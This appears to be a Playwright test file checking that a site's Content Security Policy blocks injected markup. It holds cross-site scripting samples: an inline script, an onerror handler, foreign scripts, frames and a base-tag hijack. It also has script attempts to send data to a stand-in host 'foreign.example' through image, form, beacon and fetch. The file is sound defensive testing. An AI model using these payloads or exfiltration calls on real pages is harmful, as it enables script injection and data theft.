import type { Page } from '@playwright/test';
import { expect, interactive, test } from './fixture';
import { otherSite, type OtherSite } from './other-site';

let other: OtherSite;
test.beforeAll(async () => {
  other = await otherSite();
});
test.afterAll(() => other.close());

interface Marked extends Window {
  ran?: string;
  violations?: string[];
}

/** Collects what the policy stops on the page, in words. */
async function collect(page: Page) {
  await page.addInitScript(() => {
    const violations: string[] = ((window as Marked).violations = []);
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
}
const violations = (page: Page) => page.evaluate(() => (window as Marked).violations ?? []);
const ran = (page: Page) => page.evaluate(() => (window as Marked).ran);

const INJECTED = [
  ['an inline script', '<script>window.ran = "inline";</script>', 'script-src-elem inline'],
  ['an event handler', '<img src="/none.png" alt="" onerror="window.ran = 1">', 'script-src-attr inline'],
  ['a foreign script', '<script src="FOREIGN/foreign.js"></script>', 'script-src-elem FOREIGN/foreign.js'],
  ['a foreign picture', '<img src="FOREIGN/favicon.ico" alt="">', 'img-src FOREIGN/favicon.ico'],
  ['an inline style', '<style>body { display: none; }</style>', 'style-src-elem inline'],
  ['a foreign frame', '<iframe src="FOREIGN/favicon.ico"></iframe>', 'frame-src FOREIGN'],
  ['a plug-in', '<object data="/favicon.svg"></object>', 'object-src ORIGIN/favicon.svg'],
  ['another base for links', '<base href="FOREIGN/">', 'base-uri FOREIGN/'],
] as const;

const HOSTS = [
  ['with the headers of our server', true],
  ['with the meta tag alone, where a host sends no headers', false],
] as const;

for (const [host, headers] of HOSTS) {
  test.describe(`markup that got into a page, ${host},`, () => {
    test.use({ expectedError: /Content Security Policy|policy violation|404|Applying inline style/ });
    test('runs no script, fetches nothing from elsewhere and changes no style', async ({ page, baseURL }) => {
      await collect(page);
      const origin = headers ? (baseURL ?? '') : other.origin;
      const filled = (text: string) =>
        text.replaceAll('FOREIGN', 'http://foreign.example').replaceAll('ORIGIN', origin);
      await page.route(`${origin}/about`, async (route) => {
        const response = await route.fetch();
        expect(response.headers()['content-security-policy'] !== undefined).toBe(headers);
        const markup = INJECTED.map(([, one]) => filled(one)).join('');
        const body = (await response.text()).replace('</body>', () => `${markup}</body>`);
        await route.fulfill({ response, body });
      });
      await page.goto(`${origin}/about`);
      await interactive(page);
      const stopped = await violations(page);
      const missed = INJECTED.filter(([, , one]) => !stopped.includes(filled(one)));
      expect(missed.map(([name]) => name)).toEqual([]);
      expect(await ran(page)).toBeUndefined();
    });
  });
}

test.describe('without any policy', () => {
  test.use({ expectedError: /404/ });
  test('the same markup runs, so that the tests above show something', async ({ page }) => {
    for (const [, markup] of INJECTED.slice(0, 3)) {
      await page.goto(
        other.page(markup.replaceAll('FOREIGN', other.origin.replace('127.0.0.1', 'localhost'))),
      );
      await expect.poll(() => ran(page)).toBeTruthy();
    }
  });
});

for (const [host, headers] of HOSTS) {
  test.describe(`a script that got in, ${host},`, () => {
    test.use({ expectedError: /Content Security Policy|policy violation|Trusted|Refused|Fetch API/ });
    test('cannot make text into code, markup into a page, or a policy of its own', async ({
      page,
      baseURL,
    }) => {
      await page.goto(`${headers ? (baseURL ?? '') : other.origin}/about`);
      await interactive(page);
      const outcomes = await page.evaluate(async () => {
        const target = document.createElement('div');
        const script = document.createElement('script');
        const call = (of: object, name: string, ...values: unknown[]) =>
          (Reflect.get(of, name) as (...all: unknown[]) => unknown).apply(of, values);
        const attempts: Record<string, () => unknown> = {
          eval: () => call(window, 'eval', 'window.ran = "eval"'),
          Function: () => call(window, 'Function', 'window.ran = "Function"'),
          setTimeout: () => call(window, 'setTimeout', 'window.ran = "setTimeout"', 0),
          innerHTML: () => (target.innerHTML = '<img src="x" onerror="window.ran = 1">'),
          insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
          write: () => call(document, 'write', '<b></b>'),
          parser: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
          srcdoc: () => (document.createElement('iframe').srcdoc = '<b></b>'),
          'text of a script': () => (script.text = 'window.ran = "text"'),
          'address of a script': () => (script.src = '/assets/x.js'),
          worker: () => new Worker('/assets/x.js'),
          policy: () => call(Reflect.get(window, 'trustedTypes') as object, 'createPolicy', 'mine', {}),
        };
        // What the test's own call runs may eval; what comes after it may not.
        await new Promise((later) => setTimeout(later, 0));
        return Object.entries(attempts).map(([name, attempt]) => {
          try {
            attempt();
            return `${name} went through`;
          } catch {
            return `${name} stopped`;
          }
        });
      });
      expect(outcomes.filter((one) => !one.endsWith('stopped'))).toEqual([]);
      expect(outcomes).toHaveLength(12);
      expect(await ran(page)).toBeUndefined();
    });

    test('cannot send an answer to another site', async ({ page, baseURL }) => {
      await collect(page);
      await page.goto(`${headers ? (baseURL ?? '') : other.origin}/about`);
      await interactive(page);
      const outcome = await page.evaluate(async () => {
        const to = 'http://foreign.example';
        new Image().src = `${to}/picture?answer`;
        const form = document.createElement('form');
        form.action = `${to}/form?answer`;
        document.body.append(form);
        form.submit();
        navigator.sendBeacon(`${to}/beacon`, 'answer');
        return fetch(`${to}/fetch?answer`).then(
          () => 'sent',
          () => 'stopped',
        );
      });
      expect(outcome).toBe('stopped');
      // A form goes its way after the script, so its turn comes a little later.
      const stopped = async () => [
        ...new Set((await violations(page)).map((one) => one.replace(/\?.*/, ''))),
      ];
      await expect
        .poll(async () => (await stopped()).sort())
        .toEqual([
          'connect-src http://foreign.example/beacon',
          'connect-src http://foreign.example/fetch',
          'form-action http://foreign.example/form',
          'img-src http://foreign.example/picture',
        ]);
      expect(new URL(page.url()).pathname).toBe('/about');
    });
  });
}
